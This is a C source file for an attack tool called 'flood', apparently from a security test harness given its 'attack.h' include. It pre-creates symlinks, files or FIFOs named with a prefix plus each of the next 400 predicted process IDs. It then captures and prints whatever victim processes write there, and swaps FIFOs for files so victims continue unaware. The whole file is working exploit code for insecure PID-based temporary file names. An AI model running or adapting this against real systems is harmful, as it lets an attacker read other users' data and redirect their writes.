/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* flood link|file|fifo PREFIX [TARGET]: takes PREFIX plus the pid of each process that the
 * kernel will start next. What a victim writes into a file or a FIFO is ours to read. */
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"

enum { AHEAD = 400 };

struct plant {
	char name[128];
	int fd;
};

static void plant(struct plant *p, const char *kind, const char *target)
{
	if (strcmp(kind, "link") == 0) {
		if (symlink(target, p->name) != 0)
			die(p->name);
		return;
	}
	if (strcmp(kind, "fifo") == 0 && mkfifo(p->name, 0666) != 0)
		die(p->name);
	/* Read and write: a FIFO with both its ends keeps no victim waiting. */
	p->fd = open(p->name, O_RDWR | O_CREAT | O_NONBLOCK | O_CLOEXEC, 0666);
	if (p->fd < 0)
		die(p->name);
}

/* Prints what was written. A FIFO is replaced by a file with the same text, so that the victim
 * finds what it wrote and goes on. */
static bool loot(struct plant *p, bool replace)
{
	char text[4096];
	ssize_t n = read(p->fd, text, sizeof text);

	if (n <= 0)
		return false;
	fwrite(text, 1, (size_t)n, stdout);
	if (replace) {
		unlink(p->name);
		FILE *f = fopen(p->name, "w");

		if (f == NULL)
			die(p->name);
		fwrite(text, 1, (size_t)n, f);
		fclose(f);
	}
	return true;
}

static bool loot_all(struct plant *plants, bool replace)
{
	bool any = false;

	for (int i = 0; i < AHEAD; i++)
		any |= plants[i].fd >= 0 && loot(&plants[i], replace);
	return any;
}

int main(int argc, char **argv)
{
	static struct plant plants[AHEAD];

	if (argc < 3)
		return 2;
	bool fifos = strcmp(argv[1], "fifo") == 0;

	umask(0);
	for (int i = 0; i < AHEAD; i++) {
		plants[i].fd = -1;
		snprintf(plants[i].name, sizeof plants[i].name, "%s%ld", argv[2],
			 (long)getpid() + 1 + i);
		plant(&plants[i], argv[1], argv[3]);
	}
	lie_in_wait();
	/* The victim reads its FIFO too: be quicker. A file can wait until the victim has ended. */
	while (wait_for(-1, fifos ? 1 : -1))
		if (fifos && loot_all(plants, fifos))
			break;
	while (wait_for(-1, -1))
		;
	loot_all(plants, false);
	return 0;
}
